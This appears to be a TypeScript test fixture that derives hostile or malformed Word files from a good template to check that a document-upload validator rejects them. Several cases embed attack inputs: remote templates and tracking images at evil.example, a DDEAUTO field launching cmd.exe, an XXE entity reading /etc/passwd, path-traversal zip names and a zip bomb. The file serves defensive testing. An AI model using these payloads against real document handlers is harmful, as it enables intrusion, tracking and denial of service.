// Word files that nobody should take, each made from a good one by one change.
import { readFileSync } from 'node:fs';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';

type Parts = Record<string, Uint8Array>;

export const goodTemplate = (name = 'plan'): Uint8Array =>
  new Uint8Array(readFileSync(`tests/fixtures/templates/${name}.docx`));

const packed = (parts: Parts): Uint8Array => zipSync(parts);

/** The good one with a part changed, added or taken away. */
export function changed(change: (parts: Parts) => void, name = 'plan'): Uint8Array {
  const parts: Parts = unzipSync(goodTemplate(name));
  change(parts);
  return packed(parts);
}

const edit = (parts: Parts, path: string, from: string | RegExp, to: string): void => {
  const before = strFromU8(parts[path] ?? new Uint8Array());
  const after = before.replace(from, to);
  if (after === before) throw new Error(`${path} has no ${String(from)}`);
  parts[path] = strToU8(after);
};

const linksPath = 'word/_rels/document.xml.rels';
const typesPath = '[Content_Types].xml';
const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

const link = (parts: Parts, type: string, target: string, mode = 'External'): void =>
  edit(
    parts,
    linksPath,
    '</Relationships>',
    `<Relationship Id="rIdX" Type="${relations}/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
  );

const inBody = (parts: Parts, xml: string): void =>
  edit(parts, 'word/document.xml', '<w:body>', `<w:body>${xml}`);

const field = (code: string): string =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> ${code.slice(0, 4)}</w:instrText></w:r><w:r><w:instrText xml:space="preserve">${code.slice(4)}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

/** Names in a zip of our own making: fflate writes any name. */
const namedOddly = (name: string): Uint8Array =>
  changed((parts) => {
    parts[name] = strToU8('x');
  });

function twice(): Uint8Array {
  const bytes = Buffer.from(
    changed((parts) => {
      parts['word/documenu.xml'] = strToU8('<x/>');
    }),
  );
  let at = bytes.indexOf('word/documenu.xml');
  while (at >= 0) {
    bytes.write('word/document.xml', at);
    at = bytes.indexOf('word/documenu.xml', at);
  }
  return new Uint8Array(bytes);
}

function lockedZip(): Uint8Array {
  const bytes = Buffer.from(goodTemplate());
  for (
    let at = bytes.indexOf('PK\u0001\u0002');
    at >= 0;
    at = bytes.indexOf('PK\u0001\u0002', at + 4)
  ) {
    bytes.writeUInt16LE(bytes.readUInt16LE(at + 8) | 1, at + 8);
  }
  return new Uint8Array(bytes);
}

const container = (stream: string): Uint8Array =>
  new Uint8Array(
    Buffer.concat([
      Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
      Buffer.alloc(512),
      Buffer.from(stream, 'utf16le'),
    ]),
  );

/** 60 MB of one letter in a part of 60 kB. */
const swollen = (): Uint8Array =>
  changed((parts) => {
    parts['word/media/image9.png'] = new Uint8Array(60 * 1024 * 1024);
  });

export const hostileFiles: readonly (readonly [
  name: string,
  bytes: () => Uint8Array,
  why: string,
])[] = [
  ['nothing at all', () => new Uint8Array(), 'empty'],
  ['a PDF', () => strToU8('%PDF-1.7 …'), 'not-word'],
  ['rich text', () => strToU8('{\\rtf1 {{school}}}'), 'not-word'],
  ['text', () => strToU8('{{school}}'), 'not-word'],
  ['a Word file of the old kind', () => container('WordDocument'), 'not-word'],
  [
    'a workbook',
    () =>
      changed((parts) =>
        edit(parts, typesPath, /wordprocessingml\.document\.main/u, 'spreadsheetml.sheet.main'),
      ),
    'not-word',
  ],
  ['a file with a password', () => container('EncryptedPackage'), 'locked'],
  ['a zip with a password', lockedZip, 'locked'],
  ['half a file', () => goodTemplate().slice(0, 6_000), 'damaged'],
  [
    'a part that is no XML',
    () => changed((parts) => edit(parts, 'word/document.xml', '</w:body>', '')),
    'damaged',
  ],
  [
    'macros',
    () => changed((parts) => void (parts['word/vbaProject.bin'] = strToU8('x'))),
    'macros',
  ],
  [
    'a macro document',
    () =>
      changed((parts) =>
        edit(
          parts,
          typesPath,
          /application\/vnd\.openxmlformats-officedocument\.wordprocessingml\.document\.main\+xml/u,
          'application/vnd.ms-word.document.macroEnabled.main+xml',
        ),
      ),
    'macros',
  ],
  [
    'a template from a server',
    () => changed((parts) => link(parts, 'attachedTemplate', 'https://evil.example/a.dotm')),
    'external',
  ],
  [
    'a template from a share',
    () => changed((parts) => link(parts, 'attachedTemplate', '\\\\server\\share\\a.dotm')),
    'external',
  ],
  [
    'a picture from a server',
    () => changed((parts) => link(parts, 'image', 'https://evil.example/spy.png')),
    'external',
  ],
  [
    'a picture from a server that hides',
    () => changed((parts) => link(parts, 'image', 'https://evil.example/spy.png', 'Internal')),
    'external',
  ],
  [
    'a link that runs',
    () => changed((parts) => link(parts, 'hyperlink', 'file:///c:/windows/calc.exe')),
    'external',
  ],
  [
    'addresses for letters',
    () => changed((parts) => link(parts, 'mailMergeSource', 'file:///c:/list.csv')),
    'external',
  ],
  ['a frame', () => changed((parts) => link(parts, 'frame', 'https://evil.example/')), 'external'],
  [
    'an old picture with an address',
    () =>
      changed((parts) =>
        inBody(
          parts,
          '<w:p><w:r><w:pict><v:shape><v:imagedata src="https://evil.example/a.png"/></v:shape></w:pict></w:r></w:p>',
        ),
      ),
    'external',
  ],
  [
    'an embedded sheet',
    () => changed((parts) => void (parts['word/embeddings/sheet.xlsx'] = strToU8('x'))),
    'embedded',
  ],
  [
    'a control',
    () => changed((parts) => void (parts['word/activeX/activeX1.xml'] = strToU8('<x/>'))),
    'embedded',
  ],
  [
    'a web page inside',
    () => changed((parts) => inBody(parts, '<w:altChunk r:id="rId9"/>')),
    'embedded',
  ],
  [
    'a field that starts a program',
    () => changed((parts) => inBody(parts, field('DDEAUTO c:\\\\windows\\\\cmd.exe'))),
    'field',
  ],
  [
    'a field that fetches a file',
    () => changed((parts) => inBody(parts, field('INCLUDEPICTURE "https://evil.example/a.png"'))),
    'field',
  ],
  ['a bomb', swollen, 'swells'],
  ['a path out of the file', () => namedOddly('../../evil.xml'), 'odd-names'],
  ['a path from the root', () => namedOddly('/etc/evil.xml'), 'odd-names'],
  ['a path of Windows', () => namedOddly('word\\..\\..\\evil.xml'), 'odd-names'],
  ['one name twice', twice, 'odd-names'],
  [
    'entities of its own',
    () =>
      changed((parts) =>
        edit(
          parts,
          'word/document.xml',
          '<w:document ',
          '<!DOCTYPE d [<!ENTITY a "b"><!ENTITY f SYSTEM "file:///etc/passwd">]><w:document ',
        ),
      ),
    'doctype',
  ],
  [
    'a strict document',
    () =>
      changed((parts) =>
        edit(
          parts,
          'word/document.xml',
          'http://schemas.openxmlformats.org/wordprocessingml/2006/main',
          'http://purl.oclc.org/ooxml/wordprocessingml/main',
        ),
      ),
    'strict',
  ],
  [
    'no placeholder',
    () =>
      changed((parts) => {
        for (const path of Object.keys(parts))
          if (/^word\/(?:document|header|footer)/u.test(path))
            parts[path] = strToU8(
              strFromU8(parts[path] ?? new Uint8Array()).replaceAll(/\{\{|\}\}/gu, ''),
            );
      }),
    'no-placeholder',
  ],
  [
    'a list that never ends',
    () => changed((parts) => edit(parts, 'word/document.xml', '{{/objectives}}', '')),
    'unbalanced',
  ],
  [
    'an end without a beginning',
    () => changed((parts) => edit(parts, 'word/document.xml', '{{#objectives}}', '')),
    'unbalanced',
  ],
  [
    'a list from a text box into the page',
    () =>
      changed((parts) => {
        edit(parts, 'word/document.xml', 'School: </w:t>', 'School: {{#strengths}}</w:t>');
        edit(parts, 'word/document.xml', 'Strengths to protect', 'Strengths {{/strengths}}');
      }),
    'unbalanced',
  ],
  [
    'the whole document inside a sentence',
    () =>
      changed((parts) =>
        edit(parts, 'word/document.xml', 'Strengths to protect', 'Here: {{document}}'),
      ),
    'unbalanced',
  ],
];
